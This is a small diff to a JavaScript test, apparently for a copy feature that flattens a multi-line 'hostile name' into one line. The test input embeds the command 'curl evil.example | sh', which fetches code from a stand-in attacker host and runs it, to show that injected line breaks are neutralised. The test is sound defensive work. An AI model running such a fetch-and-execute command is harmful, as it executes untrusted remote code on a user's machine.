@@ -206,7 +206,7 @@ test('below the smallest window it says so and can still be left', () => {
 });
 
 test('what is copied is one line, however many a hostile name has', () => {
-  runtime.controller().copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
+  runtime.copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
   expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
 });
 
